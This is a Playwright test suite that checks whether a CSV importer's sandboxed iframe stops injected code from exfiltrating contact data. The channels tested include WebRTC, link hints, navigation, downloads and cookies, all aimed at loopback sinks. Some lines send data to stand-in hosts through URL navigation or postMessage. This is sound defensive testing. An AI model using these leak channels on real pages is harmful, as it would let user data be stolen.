import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Frame, Page } from 'playwright-core';
// @ts-expect-error: a plain ES module of the build scripts, without type declarations.
import { serveHosted } from '../../scripts/hosted-server.mjs';
import { CONTACT_COLUMNS } from '../support/contacts.ts';
import type { Attack } from '../support/exfiltrate.ts';
import { injectedHostedSite, injectedSrcdoc } from '../support/injected-frame.ts';
import { type ObservedBrowser, observedBrowser } from '../support/observed-browser.ts';
import { serveHost, type TestServer } from '../support/servers.ts';
import { tcpSink, type UdpSink, udpSink } from '../support/sockets.ts';
import { received, waitForEvent } from './importer-flow.ts';

// Code running inside the frame (bundled into a test build of it before the app's modules, as a
// compromised dependency would be) tries each channel that CSP does not cover, in a browser
// whose background networking is on, and the sockets on loopback count what leaves: UDP
// datagrams, TCP connections, DNS lookups. For each channel a control does the same from the
// host page, which has no such defence: its traffic arriving shows the channel is open in this
// browser and bounds how long the test waits for the frame's.

let observed: ObservedBrowser;
let host: TestServer;
const servers: { close(): Promise<void> }[] = [];

before(async () => {
  observed = await observedBrowser();
  host = await serveHost();
});
after(async () => {
  await observed?.close();
  await host?.close();
  for (const server of servers) await server.close();
});

type Mode = 'srcdoc' | 'hosted';

/** A host page with the importer open, its frame built with `attack` bundled in. */
async function openAttacked(
  mode: Mode,
  attack: Attack,
  {
    ready = true,
    gesture = true,
    setup,
  }: { ready?: boolean; gesture?: boolean; setup?: (page: Page) => Promise<void> } = {},
): Promise<{ page: Page; frame: Frame }> {
  const page = await observed.context.newPage();
  await setup?.(page);
  if (gesture) await page.goto(`${host.url}/host.html`);
  let src: string | undefined;
  let html: string | undefined;
  if (mode === 'hosted') {
    const site = await serveHosted({ allowedOrigins: [host.url], root: await injectedHostedSite(attack) });
    servers.push(site);
    // A site of its own for each test's importer, so that no renderer process is shared.
    src = `http://${unique('importer')}.test:${new URL(site.url).port}/`;
  } else html = await injectedSrcdoc(attack);
  const open = ({ columns, src, html }: { columns: unknown; src?: string; html?: string }) => {
    const importer = document.querySelector('csv-importer')!;
    if (html) (customElements.get('csv-importer') as unknown as { frameHtml: string }).frameHtml = html;
    if (src) importer.src = src;
    importer.columns = columns as never;
    importer.open();
  };
  const options = { columns: CONTACT_COLUMNS as unknown, src, html };
  if (!gesture) {
    // Every evaluation by the test driver counts as a user's gesture in the page; a script the
    // page runs on its own does not.
    await page.addInitScript(
      ({ open, options }) =>
        addEventListener('DOMContentLoaded', () => new Function('options', `(${open})(options)`)(options)),
      { open: open.toString(), options },
    );
    await page.goto(`${host.url}/host.html`);
    return { page, frame: undefined as unknown as Frame };
  }
  await page.evaluate(open, options);
  const frame = (await (await page.waitForSelector('csv-importer >> iframe')).contentFrame())!;
  if (ready) await frame.waitForSelector('input[type=file]');
  return { page, frame };
}

/** What the injected code noted, once it noted something. */
async function outcome(frame: Frame): Promise<string[]> {
  await frame.waitForFunction(() => (window as unknown as { exfiltration?: string[] }).exfiltration?.length);
  return frame.evaluate(() => (window as unknown as { exfiltration: string[] }).exfiltration);
}

const DATA = 'Ada,Lovelace,ada@example.com';

/** A STUN request from the host page to `sink`, as the control for WebRTC. */
async function webrtcControl(page: Page, sink: UdpSink): Promise<void> {
  await page.evaluate((port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel('control');
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  }, sink.port);
  await waitUntil(() => sink.packets > 0, 'the control reached its UDP sink');
}

/** A `<link>` hint from the host page, as the control for preconnect and DNS prefetch. */
async function linkControl(page: Page, rel: string, href: string): Promise<void> {
  await page.evaluate(
    ({ rel, href }) => {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = href;
      document.head.append(link);
    },
    { rel, href },
  );
}

async function waitUntil(condition: () => boolean, what: string, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out: ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/**
 * Records the page's downloads in `downloads`, and its error and download events in `events` (as
 * `type code`) through the console, which needs no evaluation in the page to be read.
 */
async function logDownloads(page: Page, events: string[], downloads: string[]): Promise<void> {
  page.on('download', (d) => downloads.push(d.suggestedFilename()));
  page.on('console', (m) => {
    if (m.text().startsWith('event ')) events.push(m.text().slice(6));
  });
  await page.addInitScript(() => {
    for (const type of ['csv-importer-error', 'csv-importer-download'])
      document.addEventListener(type, (e) =>
        console.log(`event ${e.type} ${(e as unknown as { code?: string }).code ?? ''}`),
      );
  });
}

const unique = (what: string) =>
  `${what}-${Date.now().toString(36)}${Math.random().toString(36).slice(2, 6)}`;

for (const mode of ['srcdoc', 'hosted'] as const) {
  describe(`channels from code inside the frame (${mode} mode), counted on loopback sockets`, () => {
    test('WebRTC: no STUN datagram leaves; the constructors are gone before any module runs', async () => {
      const [sink, control] = await Promise.all([udpSink(), udpSink()]);
      servers.push(sink, control);
      const { page, frame } = await openAttacked(mode, { channel: 'webrtc', port: sink.port, data: DATA });
      const seen = await outcome(frame);
      await webrtcControl(page, control);
      assert.equal(sink.packets, 0, `datagrams from the frame (${seen.join('; ')})`);
      assert.deepEqual(seen, ['no RTCPeerConnection']);
      await page.close();
    });

    test("WebRTC from a child frame that runs the frame's own script: the child cannot be made", async () => {
      const [sink, control] = await Promise.all([udpSink(), udpSink()]);
      servers.push(sink, control);
      const { page, frame } = await openAttacked(mode, {
        channel: 'webrtc-child',
        port: sink.port,
        data: DATA,
      });
      const seen = await outcome(frame);
      await webrtcControl(page, control);
      // A child needs a moment more to load and run its script than the control takes.
      await page.waitForTimeout(1000);
      assert.equal(sink.packets, 0, `datagrams from the frame or a child (${seen.join('; ')})`);
      assert.match(seen[0]!, /^NotAllowedError: csv-importer: refused to insert/, seen.join('; '));
      assert.equal(await frame.evaluate(() => document.querySelectorAll('iframe').length), 0);
      await page.close();
    });

    for (const rel of ['preconnect', 'dns-prefetch'] as const) {
      test(`<link rel=${rel}>: refused on every path (element, Lit markup, a child document); nothing reaches a socket`, async () => {
        const [sink, control] = await Promise.all([tcpSink(), tcpSink()]);
        servers.push(sink, control);
        const name = `${unique(rel)}.${rel === 'preconnect' ? 'test' : 'example'}`;
        const { page, frame } = await openAttacked(mode, { channel: rel, port: sink.port, name, data: DATA });
        const seen = await outcome(frame);
        if (rel === 'preconnect') {
          await linkControl(page, rel, `http://control.test:${control.port}/`);
          await waitUntil(() => control.connections > 0, 'the control preconnected');
          assert.equal(sink.connections, 0, 'connections from the frame');
        } else {
          const controlName = `${unique('control')}.example`;
          await linkControl(page, rel, `http://${controlName}/`);
          await waitUntil(() => observed.dns.names.includes(controlName), 'the control was looked up');
          assert.equal(observed.dns.names.filter((n) => n === name).length, 0, 'lookups of the frame’s name');
        }
        assert.deepEqual(seen, [
          'createElement: NotAllowedError',
          'lit: NotAllowedError',
          'child frame: NotAllowedError',
        ]);
        assert.equal(await frame.evaluate(() => document.querySelectorAll('link, iframe').length), 0);
        await page.close();
      });
    }

    test(
      mode === 'hosted'
        ? 'self-navigation with data in the URL: cancelled before any connection; the importer goes on'
        : 'self-navigation with data in the URL: the request leaves (not cancellable here); the host removes the frame with frame_navigated',
      async () => {
        const [sink, control] = await Promise.all([tcpSink(), tcpSink()]);
        servers.push(sink, control);
        const attack: Attack = { channel: 'navigate', port: sink.port, name: 'navigate.test', data: DATA };
        const { page, frame } = await openAttacked(mode, attack, { ready: false });
        if (mode === 'srcdoc') {
          // The Navigation API gives an opaque-origin document no navigate event to cancel.
          const error = (await waitForEvent(page, 'csv-importer-error')).find(
            (e) => e.type === 'csv-importer-error',
          )!;
          assert.equal(error.code, 'frame_navigated');
          assert.deepEqual(sink.lines, [`GET /?data=${encodeURIComponent(DATA)} HTTP/1.1`]);
          await page.waitForFunction(
            () => !document.querySelector('csv-importer')!.shadowRoot!.querySelector('iframe'),
          );
          await page.close();
          return;
        }
        assert.deepEqual(await outcome(frame), ['navigating']);
        // The control: the host page navigates a frame of its own to the control's sink.
        await page.evaluate((port) => {
          const probe = document.createElement('iframe');
          probe.src = `http://control.test:${port}/?control`;
          document.body.append(probe);
        }, control.port);
        await waitUntil(() => control.lines.length > 0, 'the control navigation reached its sink');
        assert.deepEqual(sink.lines, [], 'requests from the frame');
        assert.equal(sink.connections, 0);
        await frame.getByRole('heading', { name: 'Upload a file' }).waitFor();
        assert.deepEqual(
          (await received(page)).filter((e) => e.type === 'csv-importer-error'),
          [],
        );
        await page.close();
      },
    );

    test('a navigation the frame cannot stop (started by another window): the host removes the frame with frame_navigated', async () => {
      const sink = await tcpSink();
      servers.push(sink);
      const { page } = await openAttacked(mode, { channel: 'webrtc', port: 1, data: DATA });
      await page.evaluate((port) => {
        const iframe = document.querySelector('csv-importer')!.shadowRoot!.querySelector('iframe')!;
        iframe.contentWindow!.location.href = `http://elsewhere.test:${port}/?data=rows`;
      }, sink.port);
      const events = await waitForEvent(page, 'csv-importer-error');
      const error = events.find((e) => e.type === 'csv-importer-error')!;
      assert.equal(error.code, 'frame_navigated');
      assert.match(
        error.message!,
        /^The importer navigated away, so its frame was removed\. Open it again to retry\.$/,
      );
      assert.deepEqual(sink.lines, ['GET /?data=rows HTTP/1.1']);
      await page.waitForFunction(
        () => !document.querySelector('csv-importer')!.shadowRoot!.querySelector('iframe'),
      );
      const notice = await page.locator('csv-importer >> [part=notice]').textContent();
      assert.equal(notice, error.message);
      assert.equal(await page.evaluate(() => document.querySelector('csv-importer')!.isOpen), false);
      await page.close();
    });

    test('a forged completion on the app’s port (no delivery, or a wrong row count) is an error, never a complete event', async () => {
      const { page, frame } = await openAttacked(mode, { channel: 'forge-complete', data: DATA });
      assert.deepEqual(await outcome(frame), ['posted 3 on the port']);
      await page.waitForFunction(
        () => (window as unknown as { received: { type: string }[] }).received.length >= 2,
      );
      await page.waitForTimeout(300);
      const events = await received(page);
      assert.deepEqual(
        events.map((e) => [e.type, e.code, e.message]),
        [
          ['csv-importer-error', 'invalid_message', 'Dropped a completion of 3 rows: 0 were delivered.'],
          ['csv-importer-error', 'invalid_message', 'Dropped a completion that follows no delivery.'],
        ],
      );
      await page.close();
    });

    test('downloads asked for without a user’s click are refused; none is saved', async () => {
      // Any evaluation by the test driver counts as a user's gesture: the page opens the importer
      // by a script of its own, and the events are read from the console.
      const refused: string[] = [];
      const downloads: string[] = [];
      const { page } = await openAttacked(
        mode,
        { channel: 'download-flood', data: DATA },
        { gesture: false, setup: (p) => logDownloads(p, refused, downloads) },
      );
      await waitUntil(() => refused.length >= 5, 'five refusals', 30_000);
      const frame = (await (await page.waitForSelector('csv-importer >> iframe')).contentFrame())!;
      assert.deepEqual(await outcome(frame), ['posted 5 on the port']);
      assert.deepEqual(refused, Array(5).fill('csv-importer-error download_refused'));
      const errors = (await received(page)).filter((e) => e.type === 'csv-importer-error');
      assert.match(errors[0]!.message!, /^exfiltrated-0\.csv was not saved: no click just before it/);
      assert.deepEqual(downloads, []);
      await page.close();
    });
  });
}

describe('downloads with a user activation', () => {
  test('one file a second at most: of five asked for at once, one is saved and four are refused', async () => {
    const events: string[] = [];
    const downloads: string[] = [];
    const { page } = await openAttacked(
      'srcdoc',
      { channel: 'download-flood', data: DATA, delayMs: 0 },
      { setup: (p) => logDownloads(p, events, downloads) },
    );
    // The driver's evaluation that opened the importer gave the page its activation. The events
    // are read from the console, as above: while a download starts the page may answer no
    // evaluation for a long while (a polled wait timed out in one CI run in three).
    const errors = () => events.filter((e) => e.startsWith('csv-importer-error'));
    await waitUntil(() => errors().length >= 4, 'four refusals', 30_000);
    assert.deepEqual(errors(), Array(4).fill('csv-importer-error download_refused'));
    await waitUntil(() => downloads.length > 0, 'the first file was saved');
    assert.deepEqual(downloads, ['exfiltrated-0.csv']);
    await page.close();
  });
});

describe('channels that remain open to code inside the frame', () => {
  test('postMessage reaches the host window and sibling frames (the frame cannot be stopped from posting)', async () => {
    const page = await observed.context.newPage();
    await page.goto(`${host.url}/host.html`);
    await page.evaluate(() => {
      const w = window as unknown as { heard: unknown[] };
      w.heard = [];
      addEventListener('message', (e) => w.heard.push(e.data));
      const sibling = document.createElement('iframe');
      sibling.srcdoc =
        '<script>window.heard = []; addEventListener("message", (e) => heard.push(e.data));</script>';
      document.body.append(sibling);
    });
    const html = await injectedSrcdoc({ channel: 'post-message', data: DATA });
    await page.evaluate(
      ({ columns, html }) => {
        (customElements.get('csv-importer') as unknown as { frameHtml: string }).frameHtml = html;
        const importer = document.querySelector('csv-importer')!;
        importer.columns = columns as never;
        importer.open();
      },
      { columns: CONTACT_COLUMNS as unknown, html },
    );
    await page.waitForFunction(() =>
      (window as unknown as { heard: { exfiltrated?: string }[] }).heard.some((d) => d?.exfiltrated),
    );
    // The host page heard it (above), and so did a frame beside the importer.
    const heardBySiblings = await Promise.all(
      page
        .mainFrame()
        .childFrames()
        .map((f) =>
          f.evaluate(() => (window as unknown as { heard?: unknown[] }).heard ?? null).catch(() => null),
        ),
    );
    assert.ok(
      heardBySiblings.some((h) => h?.some((d) => (d as { exfiltrated?: string })?.exfiltrated === DATA)),
      'a sibling frame heard the data',
    );
    await page.close();
  });
});

describe('hosted mode on the same site as the application', () => {
  test('a cookie the frame sets for the site does not ride on the application’s requests (credentialless)', async () => {
    const sink = await tcpSink();
    servers.push(sink);
    const app = await serveHost();
    servers.push(app);
    const appOrigin = `http://app.test:${new URL(app.url).port}`;
    const attack: Attack = { channel: 'cookie', name: 'app.test', data: 'ada@example.com' };
    const site = await serveHosted({ allowedOrigins: [appOrigin], root: await injectedHostedSite(attack) });
    servers.push(site);
    const importerUrl = `http://importer.app.test:${new URL(site.url).port}/`;
    const page = await observed.context.newPage();
    await page.goto(`${appOrigin}/host.html`);
    await page.evaluate(
      ({ columns, src }) => {
        const importer = document.querySelector('csv-importer')!;
        importer.src = src;
        importer.columns = columns as never;
        importer.open();
      },
      { columns: CONTACT_COLUMNS as unknown, src: importerUrl },
    );
    const frame = (await (await page.waitForSelector('csv-importer >> iframe')).contentFrame())!;
    await frame.waitForSelector('input[type=file]');
    const seen = await outcome(frame);
    assert.match(seen[0]!, /^cookie: exfiltrated=/, 'the frame could set the cookie in its own partition');
    const probe = (path: string) =>
      page.evaluate(
        (url) => fetch(url, { credentials: 'include', mode: 'no-cors' }).then(() => undefined),
        `http://app.test:${sink.port}/${path}`,
      );
    await probe('after-frame');
    // The control: the same importer page framed without `credentialless` sets the same cookie,
    // and the application's next request carries it.
    await page.evaluate((src) => {
      const plain = document.createElement('iframe');
      plain.src = src;
      document.body.append(plain);
    }, importerUrl);
    await page.waitForFunction(() => document.cookie.includes('exfiltrated='));
    await probe('after-control');
    const cookieOf = (path: string) =>
      sink.heads.find((h) => h.startsWith(`GET /${path} `))?.match(/^cookie: (.*)$/im)?.[1] ?? '';
    assert.doesNotMatch(cookieOf('after-frame'), /exfiltrated/);
    assert.match(cookieOf('after-control'), /exfiltrated=ada%40example\.com/);
    await page.close();
  });
});

// Last in the file: a frozen frame's renderer process may spin on after its page closed.
describe('a frozen frame, seen from the host', () => {
  for (const mode of ['srcdoc', 'hosted'] as const) {
    test(`${mode}: a frame whose main thread freezes: the host gets frame_unresponsive, the frame goes, the user reads why`, async () => {
      const { page, frame } = await openAttacked(mode, { channel: 'freeze', data: DATA }, { ready: false });
      const events = await waitForEvent(page, 'csv-importer-error');
      const error = events.find((e) => e.type === 'csv-importer-error')!;
      assert.equal(error.code, 'frame_unresponsive');
      assert.match(
        error.message!,
        /^The importer stopped responding for \d+ s, so its frame was removed\. Open it again to retry\.$/,
      );
      await page.waitForFunction(
        () => !document.querySelector('csv-importer')!.shadowRoot!.querySelector('iframe'),
      );
      assert.equal(await page.locator('csv-importer >> [part=notice]').textContent(), error.message);
      assert.ok(frame.isDetached());
      await page.close();
    });
  }
});
